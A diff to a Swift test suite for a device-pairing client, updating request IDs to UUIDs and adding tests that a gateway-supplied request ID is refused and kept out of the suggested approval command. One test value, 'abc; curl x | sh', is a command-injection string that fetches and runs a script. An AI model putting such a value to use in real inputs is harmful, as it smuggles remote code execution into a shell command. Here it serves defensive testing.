@@ -34,12 +34,12 @@ import Testing
         let clock = ManualClock()
         var waiter = ApprovalWaiter(wait: .seconds(1), clock: clock)
         let events = EventLog()
-        let request = GatewayConnectError.PairingRequest(requestId: "req-1", message: "pairing required")
+        let request = GatewayConnectError.PairingRequest(requestId: "11111111-1111-4111-8111-111111111111", message: "pairing required")
         waiter.pending(request, kind: .node, onEvent: events.record)
         waiter.pending(request, kind: .node, onEvent: events.record)
-        waiter.pending(.init(requestId: "req-2", message: "superseded"), kind: .node, onEvent: events.record)
-        #expect(events.requestIds == ["req-1", "req-2"])
-        #expect(waiter.requestIds == ["req-1", "req-2"])
+        waiter.pending(.init(requestId: "22222222-2222-4222-8222-222222222222", message: "superseded"), kind: .node, onEvent: events.record)
+        #expect(events.requestIds == ["11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222"])
+        #expect(waiter.requestIds == ["11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222"])
         // A pause past the --wait budget is not taken: the pairing ends at once.
         await #expect(throws: ClawPairError(.pairingTimedOut, "")) {
             try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(request, retryAfterMs: nil))
@@ -48,7 +48,27 @@ import Testing
             try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(request, retryAfterMs: nil))
             Issue.record("a pause past the budget was taken")
         } catch {
-            #expect(error.remedy?.contains("openclaw devices approve req-2") == true)
+            #expect(error.remedy?.contains("openclaw devices approve 22222222-2222-4222-8222-222222222222") == true)
+        }
+    }
+
+    @Test func aHostileRequestIdIsReportedOnceAndNeverBuiltIntoACommand() async throws {
+        var waiter = ApprovalWaiter(wait: .seconds(1), clock: ManualClock())
+        let events = EventLog()
+        let hostile = GatewayConnectError.PairingRequest(requestId: "abc; curl x | sh", message: "pairing required")
+        waiter.pending(hostile, kind: .node, onEvent: events.record)
+        waiter.pending(hostile, kind: .node, onEvent: events.record)
+        #expect(events.pending.count == 1)
+        #expect(events.pending.first?.refusedRequestId == true)
+        #expect(waiter.requestIds.isEmpty)
+        do {
+            try await waiter.sleep(.seconds(2), giveUpWith: .waitThenRetry(hostile, retryAfterMs: nil))
+            Issue.record("a pause past the budget was taken")
+        } catch {
+            #expect(error.code == .pairingTimedOut)
+            #expect(!error.message.contains("curl"))
+            #expect(error.remedy?.contains("curl") == false)
+            #expect(error.remedy?.contains("not a UUID") == true)
         }
     }
 
@@ -112,10 +132,11 @@ import Testing
 /// Pairing events as a test sees them.
 final class EventLog: @unchecked Sendable {
     // @unchecked: written and read on the test's task only.
-    private(set) var requestIds: [String] = []
+    private(set) var pending: [GatewayConnectError.PairingRequest] = []
+    var requestIds: [String] { pending.compactMap(\.requestId) }
 
     func record(_ event: PairingEvent) {
-        if case .pending(let id, _, _) = event, let id { requestIds.append(id) }
+        if case .pending(let request, _) = event { pending.append(request) }
     }
 }
 
@@ -164,7 +185,24 @@ final class EventLog: @unchecked Sendable {
         await #expect(throws: ClawPairError(.pairingTimedOut, "")) {
             try await PairingFlow(reactor: IOReactor()).run(try plan(stub, wait: .seconds(1)), onEvent: events.record)
         }
-        #expect(events.requestIds == ["req-5"])
+        #expect(events.requestIds == ["55555555-5555-4555-8555-555555555555"])
+    }
+
+    @Test func aHostileRequestIdFromTheGatewayIsRefused() async throws {
+        let stub = try await GatewayStub.start(mode: "hostileid")
+        defer { stub.stop() }
+        let events = EventLog()
+        let plan = try plan(stub, wait: .seconds(1))
+        do {
+            _ = try await PairingFlow(reactor: IOReactor()).run(plan, onEvent: events.record)
+            Issue.record("paired")
+        } catch {
+            #expect(error.code == .pairingTimedOut)
+            #expect(!error.message.contains("curl"))
+            #expect(error.remedy?.contains("curl") == false)
+        }
+        #expect(events.requestIds.isEmpty)
+        #expect(events.pending.count == 1 && events.pending.allSatisfy(\.refusedRequestId))
     }
 
     @Test func spentBootstrapTokenIsAuthorizationFailure() async throws {
